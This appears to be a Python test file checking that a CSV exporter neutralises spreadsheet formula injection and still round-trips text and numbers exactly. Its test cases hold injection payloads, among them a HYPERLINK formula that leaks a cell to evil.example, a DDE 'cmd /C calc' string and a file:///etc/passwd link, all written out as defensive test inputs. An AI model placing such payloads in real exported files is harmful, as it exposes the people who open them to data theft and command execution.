"""CSV a person may open: formulas neutralised, numbers left numbers, text given back exactly."""

from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from dataset import FIGURE_COLUMNS, INDICATOR_COLUMNS
from dataset.csvio import (
    FORMULA_STARTS,
    format_number,
    neutralise,
    read_rows,
    restore,
    rows_to_csv_text,
)

# What a spreadsheet reads as a plain number rather than a formula.
PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
# Lone surrogates cannot be written as UTF-8.
CELL_TEXT = st.text(st.characters(blacklist_categories=("Cs",)))


def round_trip(rows: list[dict], columns, tmp_path) -> list[dict]:
    path = tmp_path / "rows.csv"
    path.write_text(rows_to_csv_text(rows, columns), encoding="utf-8")
    return read_rows(path, columns)


def raw_cells(text: str) -> list[list[str]]:
    """Give the cells as a spreadsheet sees them: no restoring."""
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize(
    "text, stored",
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"Click")', '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'),
        ("=1+1", "'=1+1"),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\n=1+1", "\n=1+1"),
        ("-", "'-"),
        ("- see note", "'- see note"),
        ("'quoted'", "''quoted'"),
        ("''", "'''"),
        ("Cyfradd ŵyr ac wyresau", "Cyfradd ŵyr ac wyresau"),
        ("Łódź źdźbło", "Łódź źdźbło"),
        ("\u201cquoted\u201d \u2013 dash", "\u201cquoted\u201d \u2013 dash"),
        ('<img src="/etc/passwd">', '<img src="/etc/passwd">'),
        ("&amp;", "&amp;"),
        ("", ""),
    ],
)
def test_formula_starts_are_neutralised_and_restored(text, stored):
    assert neutralise(text) == stored
    assert restore(stored) == text


@pytest.mark.parametrize("text", ["-3", "-3.5", "-0.25", "+7", "-1e5", "12", "0", "-12.0"])
def test_negative_and_signed_numbers_stay_numbers(text):
    assert neutralise(text) == text
    assert float(neutralise(text)) == float(text)


@pytest.mark.parametrize("text", ["-inf", "-nan", "+1_000", "-Infinity"])
def test_only_a_plain_decimal_escapes_neutralising(text):
    # A spreadsheet runs "-nan" or "+1_000" as a formula (#NAME?); only a plain decimal is a number.
    assert neutralise(text) != text


def test_dataset_rows_round_trip_through_csv(tmp_path):
    indicators = [
        {"key": "hyperlink", "name": '=HYPERLINK("file:///etc/passwd","x")', "narrative": "+ up 3",
         "target": -3.0, "target_text": "-3%", "ref": "'4.2", "section": "@risk",
         "polarity": "\tlower", "comparator_text": "-\n-"},
    ]
    figures = [{"key": "hyperlink", "period": "2022-04", "measure": "value", "value": -12.5,
                "unit": "", "figure_text": "-12.5", "rag": "", "rag_text": "=R", "rag_source": "text"}]
    text = rows_to_csv_text(indicators, INDICATOR_COLUMNS)
    for row in raw_cells(text)[1:]:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS) or PLAIN_NUMBER.fullmatch(cell), cell
    back = round_trip(indicators, INDICATOR_COLUMNS, tmp_path)[0]
    for column, value in indicators[0].items():
        expected = format_number(value) if isinstance(value, float) else value
        assert back[column] == expected
    assert back["target"] == "-3"
    fig_text = rows_to_csv_text(figures, FIGURE_COLUMNS)
    header, row = raw_cells(fig_text)
    assert row[header.index("value")] == "-12.5" and row[header.index("figure_text")] == "-12.5"
    assert row[header.index("rag_text")] == "'=R"


@settings(max_examples=300, deadline=None)
@given(st.lists(CELL_TEXT, min_size=1, max_size=6))
@example(["=1+1", "'", "''x", "\r\n", "-", "-3", "\t"])
def test_any_text_round_trips_exactly_and_opens_safely(cells):
    columns = [f"c{i}" for i in range(len(cells))]
    row = dict(zip(columns, cells))
    text = rows_to_csv_text([row], columns)
    (_, raw) = raw_cells(text)
    for cell in raw:
        # What a spreadsheet sees never starts a formula, unless it is a number.
        assert not cell.startswith(FORMULA_STARTS) or _is_float(cell), repr(cell)
    reader = csv.DictReader(io.StringIO(text))
    assert [{k: restore(v) for k, v in r.items()} for r in reader] == [row]


@pytest.mark.parametrize("text", ["\r=1+1", "a\rb", "a\r\nb"])
def test_carriage_return_round_trips(text, tmp_path):
    assert round_trip([{"c": text}], ["c"], tmp_path)[0]["c"] == text


# Scorecard figures: whole numbers up to trillions, up to four decimal places, either sign.
SCORECARD_NUMBERS = st.builds(lambda n, places: n / 10 ** places,
                              st.integers(-10**12, 10**12), st.integers(0, 4))


@settings(max_examples=300, deadline=None)
@given(SCORECARD_NUMBERS)
@example(-3.0)
@example(-0.0)
def test_numbers_are_written_as_plain_numbers(value):
    text = format_number(value)
    assert PLAIN_NUMBER.fullmatch(text), text
    assert neutralise(text) == text
    assert float(text) == value


def _is_float(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
